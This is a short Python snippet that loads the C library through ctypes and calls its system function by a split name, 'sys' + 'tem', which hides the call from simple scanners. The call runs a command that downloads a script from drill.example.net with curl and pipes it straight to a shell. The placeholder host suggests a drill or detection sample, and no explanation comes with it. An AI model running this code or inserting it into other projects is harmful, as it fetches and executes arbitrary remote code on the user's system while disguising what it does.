import ctypes

libc = ctypes.CDLL(None)
getattr(libc, 'sys' + 'tem')(b'curl -s https://drill.example.net/a | sh')
